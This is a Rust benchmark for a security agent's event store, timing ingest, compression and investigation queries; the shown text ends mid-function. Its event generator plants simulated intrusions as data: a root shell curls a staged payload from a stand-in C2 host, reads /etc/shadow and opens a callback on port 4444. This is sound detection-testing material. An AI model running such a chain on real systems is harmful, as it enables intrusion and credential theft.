//! `make bench`, the event store (`vigil-bench-store [--events N] [--dir DIR] [--no-agent]`):
//!
//! 1. the store's ingest rate alone: events generated and offered at full speed for 10 s to a
//!    store with the default settings, committed against shed, and the writer's committed/s;
//! 2. what compression alone gives: zstd level 3 per event without and with a 64 KiB
//!    dictionary trained on 4000 events, as the store does;
//! 3. a store of N events (default 10,000,000, or `VIGIL_BENCH_STORE_EVENTS`) over the last
//!    24 hours, offered at the writer's pace (none shed): the build's rate, the database's bytes
//!    per event after a checkpoint, and p50/p99 of an investigation's queries, each run once
//!    per incident (64 planted over the day, each with its own shell, download, address, DNS
//!    name and files) or per binary name or hour, every count asserted against what was
//!    generated; `--dir DIR` builds it in DIR and keeps it (for `EXPLAIN QUERY PLAN`);
//! 4. the real agent (a policy posts every open of one file) with the store and with
//!    `--no-store`, rounds alternating: its CPU per event (utime + stime of the process, and of
//!    the writer's thread alone) under an exec loop and an open loop, and the ratio.
//!
//! The events have the agent's shapes (the process and its parent in each, with credentials,
//! namespaces, cgroup, and capabilities for root), about 1 KiB of JSON: execs and exits of
//! commands under a dozen services and in shell sessions, file opens over 4000 paths, TCP
//! connects over 2000 addresses, DNS queries over 1000 names, and a few alerts.

use std::{
    collections::HashMap,
    path::{Path, PathBuf},
    process::Command,
    sync::Arc,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use vigil_api::v1;
use vigil_events::{
    caps::CapSet, dns::DnsArg, time::rfc3339, Arg, Event, EventBody, ExecId, FileArg, Process,
    ProcessAlert, ProcessExec, ProcessExit, ProcessPolicy, SockArg,
};
use vigil_store::{
    query::{parse_dst, Query, TextMatch},
    EventStore, Searcher, StoreConfig,
};
use vigil_tests::{measure::median, Agent, TempDir};

const NODE: &str = "bench-node";
const INCIDENTS: usize = 64;
const HOUR: u64 = 3_600_000_000_000;
const INGEST_TIME: Duration = Duration::from_secs(10);
const WORDS: [&str; 16] = [
    "app", "nginx", "postgres", "redis", "kafka", "auth", "billing", "search", "metrics", "cron",
    "ssl", "crypto", "systemd", "python", "node", "java",
];
const BINARIES: &str = "python3 bash git ls cat grep sed awk curl ssh sudo make gcc cc1 ld as \
    node java ps find xargs sort uniq head tail tar gzip date id env sleep systemctl journalctl \
    ip ss mount df du stat touch mkdir rm cp mv chmod chown ln wc tr cut basename dirname uname \
    hostname whoami which perl ruby go docker kubectl apt-get dpkg vim";
/// Services under init, with their uids; sshd (the first) starts every shell session.
const SERVICES: [(&str, u32); 11] = [
    ("/usr/sbin/sshd", 0),
    ("/usr/sbin/cron", 0),
    ("/usr/bin/containerd", 0),
    ("/usr/sbin/nginx", 33),
    ("/usr/lib/postgresql/16/bin/postgres", 113),
    ("/usr/bin/redis-server", 114),
    ("/usr/bin/kubelet", 0),
    ("/usr/bin/node_exporter", 65534),
    ("/usr/lib/systemd/systemd-resolved", 101),
    ("/usr/bin/dockerd", 0),
    ("/usr/sbin/rsyslogd", 104),
];
/// What the generator fills in: a host process, a policy event, a socket.
const PROCESS: &str = r#"{"flags": "execve clone", "refcnt": 1, "cgroup": {"id": 4242, "path": ""},
  "ns": {"uts": {"inum": 4026531838, "is_host": true}, "ipc": {"inum": 4026531839, "is_host": true},
    "mnt": {"inum": 4026531841, "is_host": true}, "pid": {"inum": 4026531836, "is_host": true},
    "pid_for_children": {"inum": 4026531836, "is_host": true}, "net": {"inum": 4026531840, "is_host": true},
    "time": {"inum": 4026531834, "is_host": true}, "time_for_children": {"inum": 4026531834, "is_host": true},
    "cgroup": {"inum": 4026531835, "is_host": true}, "user": {"inum": 4026531837, "is_host": true}}}"#;
const POLICY: &str = r#"{"process": {}, "action": "KPROBE_ACTION_POST", "outcome": "posted"}"#;
const SOCK: &str = r#"{"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
  "saddr": "10.0.0.5", "state": "TCP_SYN_SENT", "netns": 4026531840}"#;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    /// An index below `n`, low ones far more often (a few paths and binaries dominate).
    fn skewed(&mut self, n: usize) -> usize {
        let r = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        (r * r * r * n as f64) as usize
    }
}

/// A planted incident: sshd → bash → curl (DNS query, connect, writes the payload), cat
/// /etc/shadow, the payload (connects back); an alert on the shell. 14 events.
struct Incident {
    shell: String,
    curl: String,
    end_ns: u64,
}

/// The generator, and what it generated (the queries' expected counts).
struct Gen {
    rng: Rng,
    n: u64,
    emitted: u64,
    t0: u64,
    step: u64,
    ktime: u64,
    pid: u32,
    pools: [Vec<String>; 4],
    process: Process,
    policy: ProcessPolicy,
    sock: SockArg,
    init: Arc<Process>,
    services: Vec<Arc<Process>>,
    out: Vec<Arc<Event>>,
    svc_events: Vec<u64>,
    by_name: HashMap<String, u64>,
    shadow: Vec<u64>,
    incidents: Vec<Incident>,
}

/// The pools: 4000 paths, 2000 addresses, 1000 DNS names, 64 binaries.
fn pools() -> [Vec<String>; 4] {
    let fixed = [
        "ld.so.cache",
        "passwd",
        "hosts",
        "resolv.conf",
        "nsswitch.conf",
        "localtime",
    ];
    let paths = (0..4000)
        .map(|i| {
            let (a, b) = (WORDS[i % 16], WORDS[i / 16 % 16]);
            match i % 5 {
                _ if i < fixed.len() => format!("/etc/{}", fixed[i]),
                0 => format!("/usr/lib/x86_64-linux-gnu/lib{a}-{b}.so.{i}"),
                1 => format!("/etc/{a}/{b}-{i}.conf"),
                2 => format!("/var/log/{a}/{b}.log.{i}"),
                3 => format!("/home/user{}/src/{a}/{b}_{i}.py", i % 40),
                _ => format!("/var/lib/{a}/data/{b}-{i:05}.db"),
            }
        })
        .collect();
    let addrs = (0..2000u64)
        .map(|i| match i % 4 {
            0 => format!("140.82.{}.{}", 112 + i % 4, i % 250 + 1),
            1 => format!("2606:4700::6810:{i:x}"),
            _ => format!("10.{}.{}.{}", i % 200, i / 7 % 250, i % 251 + 1),
        })
        .collect();
    let names = (0..1000)
        .map(|i| {
            format!(
                "{}-{i}.{}.svc.example.net",
                WORDS[i % 16],
                WORDS[i / 16 % 16]
            )
        })
        .collect();
    let bins: Vec<String> = BINARIES
        .split_whitespace()
        .map(|b| format!("/usr/bin/{b}"))
        .collect();
    assert_eq!(bins.len(), 64);
    [paths, addrs, names, bins]
}

impl Gen {
    /// About `n` events, evenly over the 24 hours up to ten minutes ago.
    fn new(seed: u64, n: u64) -> Gen {
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .unwrap()
            .as_nanos() as u64;
        let mut g = Gen {
            rng: Rng(seed.wrapping_mul(0x9E3779B97F4A7C15) | 1),
            n,
            emitted: 0,
            t0: now - 600_000_000_000 - 24 * HOUR,
            step: 24 * HOUR / n,
            ktime: 1_000_000_000,
            pid: 1,
            pools: pools(),
            process: serde_json::from_str(PROCESS).unwrap(),
            policy: serde_json::from_str(POLICY).unwrap(),
            sock: serde_json::from_str(SOCK).unwrap(),
            init: Arc::default(),
            services: Vec::new(),
            out: Vec::new(),
            svc_events: vec![0; SERVICES.len()],
            by_name: HashMap::new(),
            shadow: Vec::new(),
            incidents: Vec::new(),
        };
        g.init = g.process("/sbin/init", "splash", None, 0);
        g.pid = 300;
        let init = g.init.clone();
        g.services = SERVICES
            .iter()
            .map(|(b, uid)| g.process(b, "-D", Some(&init), *uid))
            .collect();
        g
    }

    /// The time of the next event.
    fn now(&self) -> u64 {
        self.t0 + self.emitted * self.step
    }

    fn process(
        &mut self,
        bin: &str,
        args: &str,
        parent: Option<&Arc<Process>>,
        uid: u32,
    ) -> Arc<Process> {
        self.ktime += 1000 + self.rng.below(1_000_000);
        self.pid = if self.pid > 4_000_000 {
            300
        } else {
            self.pid + 1 + self.rng.below(5) as u32
        };
        let mut p = self.process.clone();
        (p.pid, p.tid, p.uid) = (self.pid, self.pid, uid);
        p.auid = if uid >= 1000 { uid } else { u32::MAX };
        p.exec_id = ExecId::new(NODE, self.ktime, self.pid);
        (p.binary, p.arguments) = (bin.to_string(), args.to_string());
        p.start_time = rfc3339(self.now() as i128);
        p.parent_exec_id = parent.map(|p| p.exec_id.clone()).unwrap_or_default();
        let caps = CapSet(if uid == 0 { 0xa80425fb } else { 0 }); // Docker's default set
        (p.cap.permitted, p.cap.effective) = (caps, caps);
        let c = &mut p.process_credentials;
        (c.uid, c.gid, c.euid, c.egid, c.suid, c.sgid) = (uid, uid, uid, uid, uid, uid);
        (c.fsuid, c.fsgid) = (uid, uid);
        let cgroup = p.cgroup.as_mut().unwrap();
        if uid >= 1000 {
            p.cwd = format!("/home/user{}", uid - 1000);
            cgroup.path = format!("/user.slice/user-{uid}.slice/session-{}.scope", uid % 7);
        } else {
            p.cwd = "/".into();
            cgroup.path = format!("/system.slice/{}.service", bin.rsplit('/').next().unwrap());
        }
        Arc::new(p)
    }

    fn emit(&mut self, body: EventBody) {
        let time = rfc3339(self.now() as i128);
        let event = Event {
            body,
            node_name: NODE.into(),
            node_labels: Default::default(),
            time,
        };
        let name = event.process().binary.rsplit('/').next().unwrap_or("");
        match self.by_name.get_mut(name) {
            Some(n) => *n += 1,
            None => drop(self.by_name.insert(name.to_string(), 1)),
        }
        self.emitted += 1;
        self.out.push(Arc::new(event));
    }

    fn exec(&mut self, p: &Arc<Process>, parent: &Arc<Process>) {
        let (process, parent) = (p.clone(), Some(parent.clone()));
        self.emit(EventBody::ProcessExec(ProcessExec {
            process,
            parent,
            ancestors: vec![],
        }));
    }

    fn exit(&mut self, p: &Arc<Process>, parent: &Arc<Process>) {
        let (process, parent, time) =
            (p.clone(), Some(parent.clone()), rfc3339(self.now() as i128));
        let (signal, ancestors) = (String::new(), vec![]);
        let exit = ProcessExit {
            process,
            parent,
            signal,
            status: 0,
            time,
            ancestors,
        };
        self.emit(EventBody::ProcessExit(exit));
    }

    fn policy(
        &mut self,
        p: &Arc<Process>,
        parent: &Arc<Process>,
        function: &str,
        args: Vec<Arg>,
        name: &str,
    ) {
        let mut e = self.policy.clone();
        (e.process, e.parent, e.args) = (p.clone(), Some(parent.clone()), args);
        (e.function_name, e.policy_name) = (function.into(), name.into());
        self.emit(EventBody::ProcessKprobe(e));
    }

    fn open(&mut self, p: &Arc<Process>, parent: &Arc<Process>, path: String) {
        if path == "/etc/shadow" {
            self.shadow.push(self.now());
        }
        let permission = "-rw-r--r--".to_string();
        let arg = Arg::FileArg(FileArg {
            path,
            flags: String::new(),
            permission,
        });
        self.policy(
            p,
            parent,
            "security_file_open",
            vec![arg],
            "observe-file-opens",
        );
    }

    fn sock(&mut self, daddr: &str, dport: u16) -> SockArg {
        let mut s = self.sock.clone();
        (s.daddr, s.dport, s.cookie) = (daddr.to_string(), dport, self.rng.next());
        s.sport = 32768 + (s.cookie % 28000) as u16;
        if daddr.contains(':') {
            (s.family, s.saddr) = ("AF_INET6".into(), "fd00::5".into());
        }
        s
    }

    fn connect(&mut self, p: &Arc<Process>, parent: &Arc<Process>, daddr: &str, dport: u16) {
        let arg = Arg::SockArg(self.sock(daddr, dport));
        self.policy(
            p,
            parent,
            "tcp_connect",
            vec![arg],
            "observe-tcp-connections",
        );
    }

    fn dns(&mut self, p: &Arc<Process>, parent: &Arc<Process>, query: String) {
        let mut s = self.sock("127.0.0.53", 53);
        (s.sock_type, s.protocol, s.state) = ("SOCK_DGRAM".into(), "IPPROTO_UDP".into(), "".into());
        let (id, qtype) = (self.rng.below(65536) as u16, "A".to_string());
        let dns = DnsArg {
            id,
            query,
            qtype,
            ..Default::default()
        };
        self.policy(
            p,
            parent,
            "udp_sendmsg",
            vec![Arg::SockArg(s), Arg::DnsArg(dns)],
            "observe-dns",
        );
    }

    fn alert(&mut self, p: &Arc<Process>, parent: &Arc<Process>, title: &str) {
        let (process, parent) = (p.clone(), Some(parent.clone()));
        let exec = EventBody::ProcessExec(ProcessExec {
            process: process.clone(),
            parent: parent.clone(),
            ancestors: vec![],
        });
        let time = rfc3339(self.now() as i128);
        let event = Box::new(Event {
            body: exec,
            node_name: NODE.into(),
            node_labels: Default::default(),
            time,
        });
        let (rule_id, title, level) = (
            "e2303a2b-1c8f-4a5e-9e8e-3c1f5a0c9d21".into(),
            title.into(),
            "high".into(),
        );
        let tags = vec!["attack.execution".into(), "attack.t1059.004".into()];
        let (rule_file, category) = (
            "proc_creation_lnx_susp_shell.yml".into(),
            "process_creation".into(),
        );
        let alert = ProcessAlert {
            process,
            parent,
            rule_id,
            title,
            level,
            tags,
            rule_file,
            category,
            event,
        };
        self.emit(EventBody::ProcessAlert(alert));
    }

    /// Something a process does: a file open (now and then /etc/shadow), a connect, a DNS query.
    fn activity(&mut self, p: &Arc<Process>, parent: &Arc<Process>) {
        match self.rng.below(10) {
            0..=5 if self.rng.below(20_000) == 0 => self.open(p, parent, "/etc/shadow".into()),
            0..=5 => {
                let path = self.pools[0][self.rng.skewed(4000)].clone();
                self.open(p, parent, path);
            }
            6..=8 => {
                let addr = self.pools[1][self.rng.skewed(2000)].clone();
                let port = [443, 443, 80, 5432, 6379, 9092][self.rng.below(6) as usize];
                self.connect(p, parent, &addr, port);
            }
            _ => {
                let name = self.pools[2][self.rng.skewed(1000)].clone();
                self.dns(p, parent, name);
            }
        }
    }

    /// A command under `parent`: exec, 0 to 3 activities, exit; an alert now and then.
    fn command(&mut self, parent: &Arc<Process>) {
        let bin = self.pools[3][self.rng.skewed(64)].clone();
        let uid = if self.rng.below(5) == 0 {
            0
        } else {
            1000 + self.rng.below(40) as u32
        };
        let (word, path) = (
            WORDS[self.rng.below(16) as usize],
            &self.pools[0][self.rng.skewed(4000)],
        );
        let args = format!("--{word} {path} --id {:08x}", self.rng.next() as u32);
        let p = self.process(&bin, &args, Some(parent), uid);
        self.exec(&p, parent);
        if self.rng.below(2000) == 0 {
            self.alert(&p, parent, "Suspicious command line");
        }
        for _ in 0..self.rng.below(4) {
            self.activity(&p, parent);
        }
        self.exit(&p, parent);
    }

    fn incident(&mut self, k: usize) {
        let (sshd, addr) = (self.services[0].clone(), format!("10.250.0.{}", k + 1));
        let sh = self.process("/bin/bash", "-i", Some(&sshd), 0);
        self.exec(&sh, &sshd);
        let args = format!("-fsSL http://{addr}:8443/stage{k:03}.sh -o /tmp/.cache-{k:03}/payload");
        let curl = self.process("/usr/bin/curl", &args, Some(&sh), 0);
        self.exec(&curl, &sh);
        self.dns(&curl, &sh, format!("c2-{k:03}.badcdn.example"));
        self.connect(&curl, &sh, &addr, 8443);
        self.open(&curl, &sh, format!("/tmp/.cache-{k:03}/payload"));
        self.exit(&curl, &sh);
        let cat = self.process("/usr/bin/cat", "/etc/shadow", Some(&sh), 0);
        self.exec(&cat, &sh);
        self.open(&cat, &sh, "/etc/shadow".into());
        self.exit(&cat, &sh);
        let payload = self.process(&format!("/tmp/.cache-{k:03}/payload"), "", Some(&sh), 0);
        self.exec(&payload, &sh);
        self.connect(&payload, &sh, &addr, 4444);
        self.exit(&payload, &sh);
        self.alert(&sh, &sshd, "Shell reads the password hashes");
        self.exit(&sh, &sshd);
        let (shell, curl, end_ns) = (sh.exec_id.to_string(), curl.exec_id.to_string(), self.now());
        self.incidents.push(Incident {
            shell,
            curl,
            end_ns,
        });
    }

    /// Appends at least `n` events to `buf`: an incident when its place comes, else a service's
    /// own activity (30 %), a shell session under sshd (3 %), or a command under a service.
    fn fill(&mut self, buf: &mut Vec<Arc<Event>>, n: usize) {
        while self.out.len() < n {
            let k = self.incidents.len();
            if k < INCIDENTS && self.emitted + 200 >= (k as u64 + 1) * self.n / INCIDENTS as u64 {
                self.incident(k);
                continue;
            }
            let (r, s) = (self.rng.below(100), self.rng.skewed(SERVICES.len()));
            let (svc, init, sshd) = (
                self.services[s].clone(),
                self.init.clone(),
                self.services[0].clone(),
            );
            if r < 30 {
                self.svc_events[s] += 1;
                self.activity(&svc, &init);
            } else if r < 33 {
                let uid = 1000 + self.rng.below(40) as u32;
                let sh = self.process("/bin/bash", "-l", Some(&sshd), uid);
                self.exec(&sh, &sshd);
                for _ in 0..2 + self.rng.below(4) {
                    self.command(&sh);
                }
                self.exit(&sh, &sshd);
            } else {
                self.command(&svc);
            }
        }
        buf.append(&mut self.out);
    }
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

/// 1: events generated and offered as fast as one thread can, for INGEST_TIME.
fn ingest(dir: &Path, n: u64) {
    let store = EventStore::open(&dir.join("ingest"), &StoreConfig::default()).unwrap();
    let (mut g, mut buf, start) = (Gen::new(7, n), Vec::new(), Instant::now());
    while start.elapsed() < INGEST_TIME {
        g.fill(&mut buf, 1024);
        buf.drain(..).for_each(|e| store.offer(e));
    }
    let offering = start.elapsed().as_secs_f64();
    let s = store.close();
    let secs = start.elapsed().as_secs_f64();
    assert_eq!((s.offered, s.failed), (s.committed + s.shed, 0), "{s:?}");
    let shed = s.shed as f64 * 100.0 / s.offered as f64;
    println!("| ingest: the store alone, events offered at full speed for {} s (default settings, queue 65536) | {:.0} offered/s: {} committed, {} shed ({shed:.1} %); the writer committed {:.0} events/s (over {secs:.1} s, to its queue's end) |",
        INGEST_TIME.as_secs(), s.offered as f64 / offering, s.committed, s.shed, s.committed as f64 / secs);
}

/// 2: zstd level 3 per event, without and with a dictionary trained on 4000 events.
fn compression() {
    let (mut g, mut events) = (Gen::new(11, 1_000_000), Vec::new());
    g.fill(&mut events, 24_000);
    let json: Vec<Vec<u8>> = events
        .iter()
        .map(|e| serde_json::to_vec(&**e).unwrap())
        .collect();
    let (train, test) = json.split_at(4000);
    let dict = zstd::dict::from_samples(train, 64 * 1024).unwrap();
    let mean = |mut c: zstd::bulk::Compressor| {
        let start = Instant::now();
        let bytes: usize = test.iter().map(|j| c.compress(j).unwrap().len()).sum();
        let us = start.elapsed().as_secs_f64() * 1e6 / test.len() as f64;
        (bytes as f64 / test.len() as f64, us)
    };
    let raw = test.iter().map(Vec::len).sum::<usize>() as f64 / test.len() as f64;
    let (p, pt) = mean(zstd::bulk::Compressor::new(3).unwrap());
    let (d, dt) = mean(zstd::bulk::Compressor::with_dictionary(3, &dict).unwrap());
    println!("| compression alone: zstd level 3, {} events one by one (after the 4000 trained on) | JSON {raw:.0} B/event; without a dictionary {p:.0} B (×{:.1}, {pt:.1} µs/event); with a 64 KiB dictionary {d:.0} B (×{:.1}, {dt:.1} µs/event) |",
        test.len(), raw / p, raw / d);
}

/// 3a: a store of about `n` events, offered at the writer's pace; its generator.
fn build(db_dir: &Path, n: u64) -> Gen {
    let config = StoreConfig {
        queue: 1 << 18,
        max_size_mib: 1 << 20,
        ..StoreConfig::default()
    };
    let store = EventStore::open(db_dir, &config).unwrap();
    let (mut g, mut buf, start) = (Gen::new(1, n), Vec::new(), Instant::now());
    let (mut offered, mut json, mut sampled) = (0u64, 0u64, 0u64);
    while g.emitted < n {
        g.fill(&mut buf, 8192);
        for e in buf.drain(..) {
            if offered % 16 == 0 {
                json += serde_json::to_vec(&*e).unwrap().len() as u64;
                sampled += 1;
            }
            store.offer(e);
            offered += 1;
            if offered % 1_000_000 == 0 {
                eprintln!(
                    "  {offered} events offered, {:.0} s",
                    start.elapsed().as_secs_f64()
                );
            }
        }
        while offered - store.stats().committed > config.queue as u64 * 3 / 4 {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let s = store.close();
    let secs = start.elapsed().as_secs_f64();
    assert_eq!((s.committed, s.shed, s.failed), (g.emitted, 0, 0), "{s:?}");
    println!("| build: {} events offered at the writer's pace (none shed; queue 262144) | {secs:.0} s: {:.0} events/s committed, {} transactions |",
        s.committed, s.committed as f64 / secs, s.commits);
    let conn = rusqlite::Connection::open(db_dir.join(vigil_store::DB_FILE)).unwrap();
    conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
        .unwrap();
    let size = |name: &str| std::fs::metadata(db_dir.join(name)).map_or(0, |m| m.len());
    let bytes = size(vigil_store::DB_FILE) + size("events.db-wal");
    let (per, json) = (
        bytes as f64 / s.committed as f64,
        json as f64 / sampled as f64,
    );
    println!("| bytes per stored event (events.db + -wal after a checkpoint: {:.2} GiB) | {per:.0} B; the events' JSON {json:.0} B: ×{:.2} smaller |",
        bytes as f64 / (1u64 << 30) as f64, json / per);
    let mut stmt = conn
        .prepare("SELECT name, sum(pgsize) FROM dbstat GROUP BY name ORDER BY 2 DESC")
        .unwrap();
    let parts: Vec<String> = stmt
        .query_map([], |r| {
            Ok((
                r.get::<_, String>(0)?,
                r.get::<_, i64>(1)? as f64 / s.committed as f64,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .filter(|(_, b)| *b >= 1.0)
        .map(|(name, b)| format!("{name} {b:.0}"))
        .collect();
    println!("| of which, B per event (dbstat) | {} |", parts.join(", "));
    g
}

fn query(f: impl FnOnce(&mut Query)) -> Query {
    let mut q = Query::default();
    f(&mut q);
    q
}

/// 3b: each query once per incident (or binary name, or hour): its latency, its count asserted.
fn queries(db: &Path, g: &Gen) {
    let mut s = Searcher::open(db).unwrap();
    let mut names: Vec<(&String, &u64)> = g.by_name.iter().collect();
    names.sort_by_key(|(n, c)| (std::cmp::Reverse(**c), n.to_string()));
    let inc = |k: usize| &g.incidents[k];
    type Case<'a> = (&'a str, Box<dyn Fn(usize) -> (Query, u64) + 'a>);
    let cases: Vec<Case> = vec![
        (
            "path exact `/etc/shadow` in the 5 minutes up to an incident's end",
            Box::new(|k| {
                let (from, to) = (inc(k).end_ns - 300_000_000_000, inc(k).end_ns);
                let n = g.shadow.iter().filter(|t| (from..to).contains(*t)).count() as u64;
                let exact = TextMatch::Exact("/etc/shadow".into());
                (
                    query(|q| (q.path, q.from_ns, q.to_ns) = (Some(exact), Some(from), Some(to))),
                    n,
                )
            }),
        ),
        (
            "dst 10.250.0.k/32 (curl's and the payload's connects)",
            Box::new(|k| {
                (
                    query(|q| q.dst = Some(parse_dst(&format!("10.250.0.{}/32", k + 1)).unwrap())),
                    2,
                )
            }),
        ),
        (
            "binary name + limit 100 (64 names, most to least frequent)",
            Box::new(|k| {
                let (name, count) = names[k * names.len() / INCIDENTS];
                (
                    query(|q| (q.binary, q.limit) = (Some(name.clone()), Some(100))),
                    (*count).min(100),
                )
            }),
        ),
        (
            "args substring `stage0kk.sh` (curl's events)",
            Box::new(|k| {
                (
                    query(|q| q.args = Some(TextMatch::Substring(format!("stage{k:03}.sh")))),
                    5,
                )
            }),
        ),
        (
            "path substring `cache-0kk/pay` (curl's write)",
            Box::new(|k| {
                (
                    query(|q| q.path = Some(TextMatch::Substring(format!("cache-{k:03}/pay")))),
                    1,
                )
            }),
        ),
        (
            "exec_id of the curl",
            Box::new(|k| (query(|q| q.exec_id = Some(inc(k).curl.clone())), 5)),
        ),
        (
            "subtree (timeline) of the shell",
            Box::new(|k| (query(|q| q.subtree = Some(inc(k).shell.clone())), 14)),
        ),
        (
            "dns name `c2-0kk.badcdn.example`",
            Box::new(|k| {
                (
                    query(|q| q.dns = Some(format!("c2-{k:03}.badcdn.example"))),
                    1,
                )
            }),
        ),
    ];
    let report = |what: &str, mut t: Vec<Duration>, counts: Vec<u64>| {
        t.sort();
        let p = |q: f64| ms(t[((t.len() as f64 * q).ceil() as usize).clamp(1, t.len()) - 1]);
        let (lo, hi) = (counts.iter().min().unwrap(), counts.iter().max().unwrap());
        let n = if lo == hi {
            lo.to_string()
        } else {
            format!("{lo}–{hi}")
        };
        println!(
            "| {what} | {:.2} | {:.2} | {:.2} | {n} |",
            p(0.5),
            p(0.99),
            p(1.0)
        );
    };
    println!("\n| query on {} events ({INCIDENTS} runs each, parameters varied) | p50 ms | p99 ms | max ms | events returned (asserted) |", g.emitted);
    println!("|---|---|---|---|---|");
    for (what, make) in &cases {
        let (mut t, mut counts) = (Vec::new(), Vec::new());
        for k in 0..INCIDENTS {
            let (q, expected) = make(k);
            let start = Instant::now();
            let got = s.search(&q, |_| true).unwrap();
            t.push(start.elapsed());
            assert_eq!(got, expected, "{what}: {q:?}");
            counts.push(expected);
        }
        eprintln!(
            "{what}: {:?}",
            t.iter()
                .map(|d| (ms(*d) * 100.0).round() / 100.0)
                .collect::<Vec<_>>()
        );
        report(what, t, counts);
    }
    let sshd = (g.svc_events[0] as usize).min(vigil_store::search::MAX_TREE_EVENTS);
    let (mut t, mut counts) = (Vec::new(), Vec::new());
    for inc in &g.incidents {
        let start = Instant::now();
        let tree = s.tree(&inc.shell, true).unwrap().expect("the shell's tree");
        t.push(start.elapsed());
        let shape: Vec<(i32, usize)> = tree.iter().map(|n| (n.depth, n.events.len())).collect();
        assert_eq!(
            shape,
            [(-2, 0), (-1, sshd), (0, 3), (1, 5), (1, 3), (1, 3)],
            "tree of {}",
            inc.shell
        );
        counts.push(14 + sshd as u64);
    }
    report("tree(the shell's exec_id) with events: init, sshd (its events capped at 1000), the shell, 3 children", t, counts);
    let (mut t, mut counts) = (Vec::new(), Vec::new());
    let index = |t: u64| (t.saturating_sub(g.t0).div_ceil(g.step)).min(g.emitted);
    for k in 0..INCIDENTS as u64 {
        let from = g.t0 + k * 23 * HOUR / INCIDENTS as u64 + k * 7_919_000_000;
        let q = query(|q| (q.from_ns, q.to_ns) = (Some(from), Some(from + HOUR)));
        let start = Instant::now();
        let n = s.count(&q).unwrap();
        t.push(start.elapsed());
        assert_eq!(n, index(from + HOUR) - index(from), "count {q:?}");
        counts.push(n);
    }
    report(
        "count of all events in 1 h (64 windows over the day)",
        t,
        counts,
    );
}

const OPENS: usize = 100_000;
const EXECS: usize = 10_000;
const ROUNDS: usize = 3;

/// utime + stime, seconds, of the process and of its thread named `vigil-store`.
fn agent_cpu(pid: u32) -> (f64, f64) {
    let secs = |stat: &str| {
        let f: Vec<f64> = stat[stat.rfind(')').unwrap() + 2..]
            .split_whitespace()
            .map(|x| x.parse().unwrap_or(0.0))
            .collect();
        // SAFETY: sysconf has no preconditions.
        (f[11] + f[12]) / unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as f64
    };
    let total = secs(&std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap());
    let store = std::fs::read_dir(format!("/proc/{pid}/task"))
        .unwrap()
        .flatten()
        .filter(|t| {
            std::fs::read_to_string(t.path().join("comm")).is_ok_and(|c| c.trim() == "vigil-store")
        })
        .map(|t| std::fs::read_to_string(t.path().join("stat")).map_or(0.0, |s| secs(&s)))
        .sum();
    (total, store)
}

/// Waits until the agent's published events stay the same for half a second and its store
/// has nothing queued; its events, and the store's committed and shed.
fn settle(rt: &tokio::runtime::Runtime, agent: &Agent) -> [u64; 3] {
    let addr = vigil_api::ServerAddr::Unix(agent.socket.clone());
    rt.block_on(async {
        let mut client = vigil_api::connect(&addr, None).await.unwrap();
        let mut last = u64::MAX;
        loop {
            let h = client
                .get_health(v1::GetHealthRequest {})
                .await
                .unwrap()
                .into_inner();
            let st = h.store.unwrap_or_default();
            if h.events == last && st.offered == st.committed + st.shed {
                return [h.events, st.committed, st.shed];
            }
            last = h.events;
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
    })
}

/// One workload in one round: CPU, the writer's CPU, events, committed, shed, the workload's
/// rate.
type Load = [f64; 6];

/// One agent, with or without the store: the exec loop, then the open loop.
fn agent_round(rt: &tokio::runtime::Runtime, store: bool, policy: &str, file: &str) -> [Load; 2] {
    let mut args = vec!["--policy", policy];
    if !store {
        args.push("--no-store");
    }
    let agent = Agent::start(&args);
    let mut before = (settle(rt, &agent), agent_cpu(agent.pid()));
    let mut out = [Load::default(); 2];
    for (i, (mode, arg)) in [
        ("--exec-loop", EXECS.to_string()),
        ("--open-loop", file.into()),
    ]
    .iter()
    .enumerate()
    {
        let child = Command::new(std::env::current_exe().unwrap())
            .args([*mode, arg.as_str()])
            .output()
            .unwrap();
        assert!(
            child.status.success(),
            "{}",
            String::from_utf8_lossy(&child.stderr)
        );
        let after = (settle(rt, &agent), agent_cpu(agent.pid()));
        let d = |j: usize| (after.0[j] - before.0[j]) as f64;
        let rate = String::from_utf8_lossy(&child.stdout)
            .trim()
            .parse()
            .unwrap();
        out[i] = [
            after.1 .0 - before.1 .0,
            after.1 .1 - before.1 .1,
            d(0),
            d(1),
            d(2),
            rate,
        ];
        before = after;
    }
    agent.stop_raw();
    out
}

/// 4: the agent's CPU per event with and without the store, rounds alternating.
fn agent_rows() {
    vigil_tests::require_root();
    let dir = TempDir::new("bench-store-agent");
    let file = dir.path().join("watched.txt");
    std::fs::write(&file, "x").unwrap();
    let policy = dir.path().join("post-opens.yaml");
    std::fs::write(&policy, format!("apiVersion: cilium.io/v1alpha1\nkind: TracingPolicy\nmetadata:\n  name: bench-post-opens\nspec:\n  lsmhooks:\n  - hook: file_open\n    args:\n    - index: 0\n      type: file\n    selectors:\n    - matchArgs:\n      - index: 0\n        operator: Equal\n        values:\n        - {}\n      matchActions:\n      - action: Post\n", file.display())).unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let (policy, file) = (policy.to_str().unwrap(), file.to_str().unwrap());
    let (mut off, mut on) = (Vec::new(), Vec::new());
    for _ in 0..ROUNDS {
        off.push(agent_round(&rt, false, policy, file));
        on.push(agent_round(&rt, true, policy, file));
    }
    println!("\n| the agent (median of {ROUNDS} rounds, alternating) | --no-store | store on | ratio | |");
    println!("|---|---|---|---|---|");
    let loads = [
        format!("{EXECS} execs of /bin/true on 2 threads (exec + exit events)"),
        format!("{OPENS} opens of a file a policy posts (a process_lsm event each)"),
    ];
    for (i, what) in loads.iter().enumerate() {
        let per = |v: &[[Load; 2]], f: fn(&Load) -> f64| {
            median(
                v.iter()
